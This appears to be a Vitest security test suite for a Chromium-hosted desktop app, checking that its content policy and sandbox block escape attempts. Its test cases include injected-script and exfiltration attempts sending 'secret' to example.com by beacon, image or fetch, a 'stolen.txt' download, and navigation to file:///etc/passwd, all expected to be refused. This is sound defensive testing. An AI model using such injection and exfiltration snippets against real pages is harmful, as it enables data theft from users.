import { chmodSync, existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { serveRendererFiles } from '../../src-main/host/serve-renderer.ts';
import { openChromium, type ChromiumUnderTest } from '../support/chromium-page.ts';
import { openDriver, type WindowDriver } from '../support/window-driver.ts';
import { eventually } from '../support/eventually.ts';

// What a script that got into the page, or a person at the keyboard, could try against the window. On the system's Chromium.

const index = `<!doctype html><html lang="zh-CN"><meta charset="utf-8"><title>档联</title>
<meta property="csp-nonce" nonce="__CSP_NONCE__"><h1>档联</h1><p id="styled">text</p><button>焦点</button><script type="module" src="/main.js"></script></html>`;

let directory: string;
let profiles: string;
let chromium: ChromiumUnderTest;
let driver: WindowDriver;

beforeAll(async () => {
  directory = mkdtempSync(join(tmpdir(), 'danglian-test-renderer-'));
  profiles = mkdtempSync(join(tmpdir(), 'dlt-'));
  writeFileSync(join(directory, 'index.html'), index);
  writeFileSync(join(directory, 'main.js'), 'window.isLoaded = true;');
  writeFileSync(join(directory, 'worker.js'), 'postMessage("from the worker");');
  chmodSync(profiles, 0o711); // the browser's own user must come through
  chromium = await openChromium({ serve: serveRendererFiles(directory), profileParent: profiles });
  driver = await openDriver(chromium.host, chromium.window);
});
afterAll(async () => {
  await chromium.host.quit();
  for (const folder of [directory, profiles]) rmSync(folder, { recursive: true, force: true });
});

describe('the content policy', () => {
  test('our own script, worker and pictures made by the page work without a complaint', async () => {
    const result = await driver.evaluate(async () => {
      const worker = new Worker('/worker.js', { type: 'module' });
      const answer = await new Promise((resolve) => { worker.onmessage = (event: MessageEvent<unknown>) => { resolve(event.data); }; });
      const canvas = document.createElement('canvas');
      const blob = await new Promise<Blob | null>((resolve) => { canvas.toBlob(resolve); });
      const pictures = await Promise.all([URL.createObjectURL(blob!), canvas.toDataURL()].map((address) => {
        const image = new Image();
        image.src = address;
        return image.decode().then(() => image.naturalWidth);
      }));
      return { isLoaded: 'isLoaded' in globalThis, answer, pictures };
    });
    expect(result).toEqual({ isLoaded: true, answer: 'from the worker', pictures: [300, 300] });
    expect(driver.consoleErrors()).toEqual([]);
  });

  test('a style element counts only with the nonce of this very answer', async () => {
    const colours = await driver.evaluate(() => {
      const nonce = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]')?.nonce ?? '';
      return ['wrong', nonce].map((value, index) => {
        const style = document.createElement('style');
        style.nonce = value;
        style.textContent = `#styled { color: rgb(${String(index + 1)}, 0, 0) }`;
        document.head.append(style);
        return getComputedStyle(document.querySelector('#styled')!).color;
      });
    });
    expect(colours).toEqual(['rgb(0, 0, 0)', 'rgb(2, 0, 0)']);
  });

  test.each([
    ['an inline script', () => { const script = document.createElement('script'); script.textContent = 'window.isHacked = true'; document.body.append(script); }],
    ['eval', () => { setTimeout(() => { (0, eval)('window.isHacked = true'); }); }],
    ['eval in a listener that we call', () => { const { desktop } = window as unknown as { desktop: { subscribe(listener: () => void): void } }; desktop.subscribe(() => { (0, eval)('window.isHacked = true'); }); }],
    ['a foreign script', () => { const script = document.createElement('script'); script.src = 'https://example.com/x.js'; document.body.append(script); }],
    ['a foreign picture', () => { new Image().src = 'https://example.com/x.png?secret'; }],
    ['a foreign connection', () => { fetch('https://example.com/').catch(() => undefined); }],
    ['a web socket', () => { try { new WebSocket('wss://example.com/'); } catch { /* refused */ } }],
    ['a beacon', () => { navigator.sendBeacon('https://example.com/', 'secret'); }],
    ['a foreign frame', () => { const frame = document.createElement('iframe'); frame.src = 'https://example.com/'; document.body.append(frame); }],
    ['a form', () => { const form = document.createElement('form'); form.action = 'https://example.com/'; document.body.append(form); form.submit(); }],
  ])('%s is refused', async (_what, attempt) => {
    const act = async (): Promise<void> => {
      await driver.evaluate(attempt);
      chromium.window.emit('connection.changed', { isOnline: true });
    };
    const before = driver.consoleErrors().length;
    await act();
    // The page is told at once or a little later, as the browser likes.
    await expect.poll(() => driver.consoleErrors().slice(before).join('\n'), { timeout: 5000 }).toMatch(/Content Security Policy/);
    expect(await driver.evaluate(() => 'isHacked' in globalThis)).toBe(false);
    expect(await driver.evaluate(() => location.href)).toBe('https://app.invalid/');
  });
});

describe('ways out of the page', () => {
  test('the binding is gone, the door is frozen, and peer connections, windows and printing are taken away, in frames as well', async () => {
    const found = await driver.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const look = (scope: object): unknown[] => ['__desktopSend', 'RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'].map((name) => name in scope);
      return { top: look(window), frame: look(frame.contentWindow!), isFrozen: Object.isFrozen(Reflect.get(window, 'desktop')), hasFrameDoor: 'desktop' in frame.contentWindow!, opened: open('/') };
    });
    expect(found).toEqual({ top: [false, false, false, false], frame: [false, false, false, false], isFrozen: true, hasFrameDoor: false, opened: null });
  });

  test('a call through the binding from any other context than our document is refused', async () => {
    const { frameTree } = z.object({ frameTree: z.object({ frame: z.object({ id: z.string() }) }) }).parse(await chromium.page.send('Page.getFrameTree'));
    const world = await chromium.page.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id, worldName: 'foreign' });
    const { executionContextId } = z.object({ executionContextId: z.int() }).parse(world);
    let calls = 0;
    chromium.host.handleCalls(() => { calls += 1; return Promise.resolve({ ok: true, value: null }); });
    await chromium.page.send('Runtime.evaluate', { contextId: executionContextId, expression: `__desktopSend('{"kind":"call","id":1,"name":"people.find","input":{}}')` });
    await eventually(() => chromium.log.some((entry) => entry.event === 'foreign-caller-refused')).toBe(true);
    expect(calls).toBe(0);
  });

  test('a download comes to nothing', async () => {
    await driver.evaluate(() => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['secret']));
      link.download = 'stolen.txt';
      document.body.append(link);
      link.click();
    });
    await delay(300);
    expect(readdirSync(profiles, { recursive: true }).filter((name) => /stolen|crdownload/.test(String(name)))).toEqual([]);
  });

  test('no permission is given and nobody is asked', async () => {
    const states = await driver.evaluate(() =>
      Promise.all((['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'] as const).map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state)), // `as`: the DOM's list is shorter than the browser's
    );
    expect(new Set(states)).toEqual(new Set(['denied']));
    expect(await driver.evaluate(() => navigator.clipboard.readText().then(() => 'read', () => 'refused'))).toBe('refused');
  });

  test.each(['F12', 'Control+Shift+I', 'Control+u', 'Control+p', 'Control+n', 'Control+t', 'F5', 'Control+r', 'Control+s'])('%s does nothing but reach the page', async (keys) => {
    await driver.click({ role: 'button', name: '焦点' });
    const before = await driver.evaluate(() => {
      addEventListener('keydown', (event) => { Reflect.set(window, 'lastKey', { key: event.key, isStopped: event.defaultPrevented }); }, { once: true });
      return performance.timeOrigin;
    });
    await driver.press(keys);
    await delay(50);
    expect(await driver.evaluate(() => ({ last: Reflect.get(window, 'lastKey') as unknown, origin: performance.timeOrigin }))).toMatchObject({ last: { isStopped: true }, origin: before });
    expect(await pagesOpen()).toBe(1);
  });

  test.each(['chrome://version/', 'view-source:https://app.invalid/', 'devtools://devtools/bundled/inspector.html', 'https://app.invalid/', 'about:blank', 'data:text/html,hello'])(
    'a page that opens all the same is closed at once: %s',
    async (address) => {
      await chromium.host.debug.pipe().send('Target.createTarget', { url: address }).catch(() => undefined);
      await eventually(pagesOpen).toBe(1);
    },
  );

  test('a box of the browser does not stop the page', async () => {
    expect(await driver.evaluate(() => confirm('stop?'))).toBe(false);
  });

  test('the address stays where it is, also after the page tries file and foreign addresses by script', async () => {
    await driver.evaluate(() => { location.href = 'https://example.com/'; });
    await delay(200);
    await driver.evaluate(() => { location.assign('file:///etc/passwd'); }).catch(() => undefined);
    await delay(200);
    expect(await driver.evaluate(() => ({ address: location.href, isLoaded: 'isLoaded' in globalThis }))).toEqual({ address: 'https://app.invalid/', isLoaded: true });
  });
});

async function pagesOpen(): Promise<number> {
  const targets = z.object({ targetInfos: z.array(z.object({ type: z.string() })) }).parse(await chromium.host.debug.pipe().send('Target.getTargets', { filter: [{}] }));
  return targets.targetInfos.filter((target) => target.type === 'page').length;
}

test('the folder of the browser is its own user\'s alone', () => {
  expect(existsSync(profiles)).toBe(true);
  expect(readdirSync(profiles).every((name) => name.startsWith(`danglian-window-${String(process.pid)}-`))).toBe(true);
});
